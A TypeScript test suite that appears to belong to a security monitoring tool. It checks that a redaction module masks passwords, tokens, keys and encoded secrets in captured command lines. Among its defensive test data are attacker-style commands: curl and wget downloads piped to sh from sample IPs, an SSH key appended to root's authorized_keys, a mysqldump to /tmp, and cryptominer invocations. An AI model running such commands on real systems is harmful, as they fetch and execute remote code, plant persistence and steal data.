import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { MAX_SAMPLE_BYTES, redactCommandLine, redactSample, redactText } from '#shared/classify/redact.ts';
import type { Sample } from '#shared/model/indicator.ts';

const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const keep = (token: string): boolean => token === WALLET;
const redact = (text: string): string => redactText(text, keep);
const SECRET = 'Zq7hunter2';
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Each kind of secret as text, given a secret of letters and digits. */
const KINDS: Readonly<Record<string, (secret: string) => string>> = {
  'a short option': (s) => `xmrig -p ${s}`,
  'a short option with its value attached': (s) => `mysql -u root -p${s}`,
  'a numbered short option': (s) => `nbminer -p1 ${s}`,
  'a long option with an equals sign': (s) => `--pass=${s}`,
  'a long option with a space': (s) => `--password ${s}`,
  'a long option with a quoted value': (s) => `--pass "a ${s} b"`,
  'a long option with quotes inside its value': (s) => `--pass=a"b ${s} c"d`,
  'an underscored option': (s) => `--pool_password1 ${s}`,
  'a single-dash word': (s) => `-epsw ${s}`,
  'a token option': (s) => `--token ${s}`,
  'an API key': (s) => `--api-key=${s}`,
  'an access token': (s) => `--http-access-token ${s}`,
  'user and password': (s) => `-O someone:${s}`,
  'user and password by name': (s) => `--userpass=someone:${s}`,
  "curl's user": (s) => `curl -u someone:${s}`,
  "curl's user attached": (s) => `curl -usomeone:${s}`,
  "smbclient's user": (s) => `smbclient -U someone%${s}`,
  'a wallet with password': (s) => `-u ${WALLET}.rig:${s}`,
  'a coin, wallet and password': (s) => `-u XMR:${WALLET}.rig:${s}`,
  'a URL': (s) => `stratum+tcp://someone:${s}@pool.example.com:3333`,
  'a URL with a slash in its password': (s) => `amqp://someone:a/${s}@mq.example.com/vhost`,
  'a URL inside a URL': (s) => `https://example.com/?next=http://someone:${s}@example.com/`,
  'a URL with escaped slashes': (s) => `https:\\/\\/someone:${s}@example.com\\/`,
  'a percent-encoded URL': (s) => `u=http%3A%2F%2Fsomeone%3A${s}%40example.com`,
  'a doubly encoded URL': (s) => `u=http%253A%252F%252Fsomeone%253A${s}%2540example.com`,
  'a token as user of a URL': (s) => `https://${s.padEnd(20, 'x')}@git.example.com/a.git`,
  'a proxy without scheme': (s) => `-x someone:${s}@192.0.2.1:1080`,
  'an environment assignment': (s) => `POOL_PW=${s} ./run`,
  'a quoted assignment': (s) => `export DB_PASS='a ${s} b'`,
  "docker's environment": (s) => `docker run -e MYSQL_ROOT_PASSWORD=${s} img`,
  'an AWS secret key': (s) => `AWS_SECRET_ACCESS_KEY=${s}`,
  'an AWS session token': (s) => `AWS_SESSION_TOKEN=${s}`,
  'an AWS setting': (s) => `aws configure set aws_secret_access_key ${s}`,
  'a credential': (s) => `GOOGLE_CREDENTIALS=${s}`,
  'an authorization header': (s) => `Authorization: Bearer ${s}`,
  'a quoted header': (s) => `curl -H "Authorization: Custom a ${s}" x`,
  'a header that lost its quotes': (s) => `curl -H Authorization: Basic ${s} -s`,
  'a cookie': (s) => `Cookie: a=b; sid=${s}; c=d`,
  'a token header': (s) => `X-Auth-Token: ${s}`,
  JSON: (s) => `{"user": "x", "pass": "a ${s} b"}`,
  'JSON in JSON': (s) => `"{\\"user\\": \\"x\\", \\"token\\": \\"a \\\\\\" ${s} b\\"}"`,
  'a JSON array of arguments': (s) => `["xmrig", "-p", "${s}"]`,
  'a JSON number': (s) => `{"token": ${s}}`,
  YAML: (s) => `password: ${s}`,
  'a query': (s) => `https://example.com/?a=b&token=${s}&c=d`,
  'a presigned URL': (s) => `https://example.com/x?X-Amz-Signature=${s}`,
  'a shared access signature': (s) => `https://example.com/x?sv=1&sig=${s}`,
  chpasswd: (s) => `echo root:${s} | chpasswd`,
  'redis-cli': (s) => `redis-cli -a ${s} ping`,
  'sshpass before ssh': (s) => `sshpass -p ${s} ssh -p 22 host`,
  'a private key': (s) => `-----BEGIN RSA PRIVATE KEY-----\n${s}\n-----END RSA PRIVATE KEY-----`,
  'a private key that was cut': (s) => `-----BEGIN OPENSSH PRIVATE KEY-----\\n${s}`,
  'a Slack webhook': (s) => `https://hooks.slack.com/services/T0/B0/${s}`,
};

for (const [kind, make] of Object.entries(KINDS)) {
  test(`masks ${kind}`, () => {
    const out = redact(make(SECRET));
    assert.ok(!out.includes(SECRET), out);
    assert.match(out, /\[redacted\]/);
  });
}

const SHAPES: Readonly<Record<string, string>> = {
  'an AWS access key id': 'AKIAIOSFODNN7EXAMPLE',
  'a temporary AWS access key id': 'ASIAIOSFODNN7EXAMPLE',
  'a JWT': `${base64('{"alg":"HS256"}').replaceAll('=', '')}.${base64('{"sub":"1"}').replaceAll('=', '')}.abcDEF123`,
  'a GitHub token': `ghp_${'a1B2'.repeat(9)}`,
  'a GitLab token': `glpat-${'a1B2'.repeat(5)}`,
  'a Slack token': 'xoxb-123456789012-abcdefABCDEF',
};
for (const [kind, token] of Object.entries(SHAPES)) {
  test(`masks ${kind} by its own shape`, () => {
    assert.ok(!redact(`x ${token}, y`).includes(token));
  });
}

const SECRET_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

test('masks 40 characters beside an AWS access key id, and no digest of a commit', () => {
  assert.equal(redact(`AKIAIOSFODNN7EXAMPLE ${SECRET_KEY}`), '[redacted] [redacted]');
  assert.deepEqual(redactCommandLine(['x', SECRET_KEY, 'AKIAIOSFODNN7EXAMPLE'], keep), [
    'x',
    '[redacted]',
    '[redacted]',
  ]);
  const commit = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
  assert.equal(redact(`git checkout ${commit}`), `git checkout ${commit}`);
});

test('replaces base64 that decodes to text, at any alignment, with the lines that continue it', () => {
  const blob = base64(`curl -u a:${SECRET} https://example.com/ | sh`);
  assert.equal(redact(`echo ${blob} | base64 -d`), `echo [base64, ${blob.length} characters] | base64 -d`);
  for (const before of ['/', '/a', '/ab', '/abc']) assert.match(redact(before + blob), /^\[base64, \d+ characters\]$/);
  const lines = `${blob.slice(0, 40)}\n${blob.slice(40)}`;
  assert.equal(redact(lines), `[base64, ${lines.length} characters]`);
  const utf16 = Buffer.from(`IEX password ${SECRET}`, 'utf16le').toString('base64');
  assert.equal(redact(`powershell -enc ${utf16}`), `powershell -enc [base64, ${utf16.length} characters]`);
});

test('replaces hexadecimal that decodes to text, and leaves digests', () => {
  const hex = Buffer.from(`password ${SECRET} and more`).toString('hex');
  assert.equal(redact(`echo ${hex} | xxd -r -p`), `echo [hex, ${hex.length} characters] | xxd -r -p`);
  const digest = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  assert.equal(redact(`sha256:${digest}`), `sha256:${digest}`);
});

const STAYS: readonly string[] = [
  `./xmrig -o pool.example.com:3333 -u ${WALLET}.rig01 --coin monero -k --tls`,
  `./xmrig -o pool.example.com:3333 -u XMR:${WALLET}.rig#abcd-efgh`,
  `lolMiner --algo ETCHASH -p pool.example.com:3333 -u ${WALLET}`,
  `bzminer -w ${WALLET} -p stratum+tcp://pool.example.com:3333`,
  `--pass ${WALLET}`,
  'stratum+tcp://192.0.2.1:3333',
  'mkdir -p /tmp/.x',
  'sudo mkdir -p /tmp/.x/y && cd /tmp/.x',
  'wrmsr -p 0 0x1a4 0xf',
  'nvidia-smi -pm 1 -pl 120',
  'find / -perm -4000 -print0',
  'git clone git@github.com:org/repo',
  'docker pull nginx:1.25@sha256:e3b0c44298fc1c14',
  'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a" >> /root/.ssh/authorized_keys',
  'wget -O /tmp/x http://192.0.2.7/x.sh',
  'curl -O https://example.com/a:b',
  'auth.example.com:443',
  'PWD=/root OLDPWD=/tmp',
  '/usr/local/lib/python3.11/dist-packages/some/long/module/path.py',
  '/sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages',
];
for (const text of STAYS) {
  test(`leaves alone: ${text.slice(0, 60)}`, () => {
    assert.equal(redact(text), text);
    const argv = text.split(' ');
    if (!text.includes('"') && !text.includes('&&')) assert.deepEqual(redactCommandLine(argv, keep), argv);
  });
}

test('knows where exact arguments end', () => {
  const argv = [
    'xmrig',
    '--pass',
    `a ${SECRET} b`,
    `--token=a ${SECRET} b`,
    '-e',
    `PASS=a ${SECRET}`,
    `-p a ${SECRET}`,
  ];
  assert.deepEqual(redactCommandLine(argv, keep), [
    ...['xmrig', '--pass', '[redacted]', '--token=[redacted]', '-e', 'PASS=[redacted]', '-p[redacted]'],
  ]);
  assert.deepEqual(redactCommandLine(['sh', '-c', `PASS=${SECRET} ./x -o pool.example.com:3333`], keep), [
    ...['sh', '-c', 'PASS=[redacted] ./x -o pool.example.com:3333'],
  ]);
});

test('masks what was split over several arguments', () => {
  for (const make of Object.values(KINDS)) {
    const out = redactCommandLine(make(SECRET).split(/\s+/), keep).join(' ');
    assert.ok(!out.includes(SECRET), out);
  }
});

const WORDS = [
  ...[
    '-p',
    '-u',
    '-o',
    '--pass',
    '--pass=',
    '-e',
    '-H',
    'PASS=',
    'token',
    ':',
    '=',
    '"',
    "'",
    '\\"',
    '`',
    ' ',
    '\n',
    ',',
  ],
  ...[
    'Authorization:',
    'Cookie:',
    'a=b;',
    'Bearer',
    '://',
    'user:',
    '@',
    '%40',
    '%3A%2F%2F',
    '?',
    '&',
    '#',
    '{',
    '}',
    '[',
  ],
  ...[
    'sh -c',
    'mkdir',
    'mysql',
    '|',
    ';',
    '-----BEGIN RSA PRIVATE KEY-----',
    '-----END',
    'AKIAIOSFODNN7EXAMPLE',
    SECRET_KEY,
  ],
  ...[
    WALLET,
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIi',
    base64('some text that is long enough'),
    'é',
    '汉',
    '[redacted]',
    'x',
    '3333',
  ],
];
const soup = fc.array(fc.oneof(fc.constantFrom(...WORDS), fc.string({ maxLength: 6 })), { maxLength: 24 });

test('redacting twice changes nothing more', () => {
  fc.assert(
    fc.property(soup, fc.constantFrom('', ' '), (parts, between) => {
      const once = redact(parts.join(between));
      assert.equal(redact(once), once);
      const argv = redactCommandLine(parts, keep);
      assert.deepEqual(redactCommandLine(argv, keep), argv);
    }),
    { numRuns: 2000 },
  );
});

const kind = fc.constantFrom(...Object.keys(KINDS));
const secret = fc.stringMatching(/^[A-Za-z0-9]{6,20}$/).map((text) => `Zq${text}`);
/** Other words, none of which opens or closes a quote. */
const around = fc.array(
  fc.constantFrom(
    'xmrig',
    '-o',
    'pool.example.com:3333',
    '-k',
    '--tls',
    'a=b',
    '/tmp/.x',
    ';',
    '&&',
    'if',
    WALLET,
    '汉字',
    'é',
    '--',
  ),
  { maxLength: 6 },
);

test('a planted secret of any kind survives in no position', () => {
  fc.assert(
    fc.property(kind, secret, around, around, fc.constantFrom('', '"', "'"), (name, planted, before, after, quote) => {
      const text = KINDS[name]?.(planted) ?? '';
      const wrapped = quote === '' || /["']/.test(text) ? text : `sh -c ${quote}${text}${quote}`;
      const line = [...before, wrapped, ...after].join(' ');
      assert.ok(!redact(line).includes(planted), redact(line));
      const argv = redactCommandLine([...before, text, ...after], keep);
      assert.ok(!argv.join(' ').includes(planted), argv.join(' '));
    }),
    { numRuns: 3000 },
  );
});

test('a secret in base64 survives neither in clear nor encoded', () => {
  fc.assert(
    fc.property(
      secret,
      fc.string({ unit: 'grapheme-ascii', minLength: 12, maxLength: 60 }),
      around,
      (planted, text, words) => {
        const out = redact([...words, base64(`${text}${planted}`), ...words].join(' '));
        const decoded = Buffer.from(out.replace(/[^A-Za-z0-9+/]/g, ''), 'base64').toString('latin1');
        assert.ok(!out.includes(base64(planted).slice(0, 8)) && !decoded.includes(planted));
      },
    ),
  );
});

test('takes any text without throwing', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      assert.equal(typeof redact(text), 'string');
    }),
  );
});

/** What would take minutes if any pass looked back or ahead again for each match. */
const HOSTILE = [
  ...[
    'pass=',
    '"',
    'a.key:80',
    '-p "',
    'Authorization:',
    '@',
    'http://',
    'AKIA',
    'eyJ-',
    '\\',
    '%40',
    '-p x://',
    "pass=a' ",
  ],
  ...[
    'PWD=/',
    'xxxxxxxxxxxxxxxxxxxxxxxxkey=|',
    'user:',
    '-----BEGIN RSA PRIVATE KEY-----',
    'cookie:a;',
    '-u a:// ',
    'A',
  ],
];
for (const pattern of HOSTILE) {
  test(`reads half a million characters of ${JSON.stringify(pattern)} once`, () => {
    assert.equal(typeof redact(pattern.repeat(Math.ceil(500_000 / pattern.length))), 'string');
  });
}

const RAW = { file: 'audit.log', line: 12 };
const sample: Sample = { time: 1_760_000_000_000, id: 'a:1', source: 'auditd', pid: 42, raw: RAW };

test('redacts every text of a sample and leaves the rest as it was', () => {
  const out = redactSample(
    {
      ...sample,
      commandLine: `./x -o pool.example.com:3333 -u ${WALLET} -p ${SECRET}`,
      path: `/tmp/PASS=${SECRET}`,
      ancestors: ['bash', `sh --token=${SECRET}`],
      query: `password:${SECRET}`,
      raw: { ...RAW, logStream: `token=${SECRET}` },
    },
    keep,
  );
  assert.ok(!JSON.stringify(out).includes(SECRET));
  assert.equal(out.commandLine, `./x -o pool.example.com:3333 -u ${WALLET} -p [redacted]`);
  assert.equal(out.pid, 42);
  assert.deepEqual(redactSample(sample, keep), sample);
});

test('keeps the number of a log event, which may by chance be the bytes of a text', () => {
  const eventId = '3'.repeat(56);
  assert.match(redact(eventId), /^\[hex, 56 characters\]$/);
  assert.equal(redactSample({ ...sample, raw: { ...RAW, eventId } }, keep).raw.eventId, eventId);
  for (const other of [
    `token=${SECRET}`,
    `${eventId} token=${SECRET}`,
    Buffer.from(`the password is ${SECRET}`).toString('hex'),
  ])
    assert.notEqual(redactSample({ ...sample, raw: { ...RAW, eventId: other } }, keep).raw.eventId, other);
});

const long = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 3000 }),
  fc.string({ unit: fc.constantFrom('a', '\u0000', '汉', '😀', '\ud800', '"', ' '), maxLength: 3000 }),
);
const anySample = fc
  .record(
    {
      ...{
        executable: long,
        commandLine: long,
        workingDirectory: long,
        uid: long,
        auid: long,
        session: long,
        tty: long,
      },
      ...{ parentName: long, path: long, container: long, image: long, pod: long, task: long, remote: long },
      ...{
        query: long,
        answer: long,
        ancestors: fc.array(long, { maxLength: 12 }),
        pid: fc.nat(),
        success: fc.boolean(),
      },
    },
    { requiredKeys: [] },
  )
  .chain((fields) =>
    fc.record({ id: long, source: long, key: long, logStream: long, file: long }).map(
      ({ id, source, ...raw }): Sample => ({
        ...fields,
        time: 1_760_000_000_000,
        id,
        source,
        raw: { ...raw, line: 3 },
      }),
    ),
  );

test('holds any sample within its bytes', () => {
  fc.assert(
    fc.property(anySample, (one) => {
      const out = redactSample(one, keep);
      assert.ok(Buffer.byteLength(JSON.stringify(out)) <= MAX_SAMPLE_BYTES);
      assert.equal(out.time, one.time);
      assert.equal(out.raw.line, 3);
    }),
  );
});

test('cuts a sample between characters and outside masks, longest field last', () => {
  const out = redactSample(
    { ...sample, commandLine: `${'😀 '.repeat(400)}--pass=${SECRET}`, answer: 'x'.repeat(900) },
    keep,
  );
  assert.match(out.commandLine ?? '', /^(?:😀 )+😀? ?…$/u);
  assert.ok(out.answer?.endsWith('…'));
  const masked = redactSample({ ...sample, commandLine: `${'y '.repeat(507)}--pass=${SECRET}` }, keep);
  assert.match(masked.commandLine ?? '', /--pass=…$/);
});

for (const argv of [
  ['bash', '-c', 'mysqldump -uroot -pMagnet.Silo app > /tmp/.d; curl -s http://198.51.100.17/m.sh | sh'],
  ['sh', '-c', 'exec mysql -pMagnet.Silo'],
  ['/bin/sh', '-lc', 'cd /a && mysqldump -u r -pMagnet.Silo x'],
]) {
  test(`knows the program inside a shell's script: ${argv.join(' ')}`, () => {
    assert.doesNotMatch(redactCommandLine(argv, () => false).join(' '), /Magnet/);
    assert.doesNotMatch(
      redactText(argv.join(' '), () => false),
      /Magnet/,
    );
  });
}
